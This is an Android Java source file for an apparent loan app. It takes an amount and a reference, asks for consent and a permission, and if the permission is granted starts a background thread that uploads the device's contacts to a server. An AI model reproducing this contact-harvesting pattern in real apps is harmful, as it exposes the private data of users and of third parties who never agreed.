package com.answertowaitingscreen.app;

import android.app.Activity;
import android.os.Bundle;
import android.widget.EditText;

/** The application: three pages of one screen. */
public class LoanActivity extends Activity {
    private String amount = "";
    private String reference = "";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_loan);
        findViewById(R.id.next).setOnClickListener(v -> notice());
    }

    private void notice() {
        amount = text(R.id.amount);
        reference = text(R.id.reference);
        setContentView(R.layout.activity_agree);
        findViewById(R.id.yes).setOnClickListener(v -> Permissions.ask(this));
        findViewById(R.id.no).setOnClickListener(v -> finish());
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        if (results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
        last();
    }

    private void last() {
        setContentView(R.layout.page_last);
        findViewById(R.id.send).setOnClickListener(v -> send());
    }

    private void send() {
        new Thread(() -> Server.send("loan", amount + "," + reference)).start();
        findViewById(R.id.send).setEnabled(false);
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }
}
